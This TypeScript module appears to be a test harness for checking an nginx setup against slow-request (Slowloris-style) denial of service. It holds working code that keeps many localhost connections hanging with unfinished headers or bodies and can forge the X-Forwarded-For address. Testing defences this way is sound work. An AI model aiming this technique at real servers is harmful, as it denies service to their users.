import { connect, type Socket } from 'node:net'

const OPENINGS = {
  header: 'GET / HTTP/1.1\r\nHost: localhost\r\n',
  body: 'POST /api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n',
}
const CHUNKS = { header: 'X: 1\r\n', body: '{' }
const CHUNK_MS = 2000
const OPENING_STEP_MS = 10
const OPENINGS_A_STEP = 15

type Attack = { port: number; localAddress: string; kind: 'header' | 'body'; wanted: number; forwardedFor: string }

/**
 * Keeps many connections open whose header or body never ends, and replaces those that nginx closes.
 * `forwardedFor` is the address that they claim to come from.
 */
export function openSlowConnections({ port, localAddress, kind, wanted, forwardedFor }: Attack) {
  const opening = forwardedFor
    ? OPENINGS[kind].replace('\r\n', `\r\nX-Forwarded-For: ${forwardedFor}\r\n`)
    : OPENINGS[kind]
  const openSince = new Map<Socket, number>()
  let closed = 0

  const openOne = () => {
    const socket = connect({ port, host: '127.0.0.1', localAddress }, () => socket.write(opening))
    openSince.set(socket, performance.now())
    socket.resume().on('error', () => undefined)
    socket.once('close', () => {
      openSince.delete(socket)
      closed += 1
    })
  }
  const openSome = () => {
    for (let missing = Math.min(wanted - openSince.size, OPENINGS_A_STEP); missing > 0; missing -= 1) openOne()
  }
  const sendChunks = () => {
    for (const socket of openSince.keys()) if (!socket.connecting) socket.write(CHUNKS[kind])
  }
  const timers = [setInterval(openSome, OPENING_STEP_MS), setInterval(sendChunks, CHUNK_MS)]

  return {
    count: () => openSince.size,
    closed: () => closed,
    olderThan: (milliseconds: number) =>
      [...openSince.values()].filter((since) => performance.now() - since > milliseconds).length,
    end: () => {
      timers.forEach(clearInterval)
      for (const socket of openSince.keys()) socket.destroy()
    },
  }
}
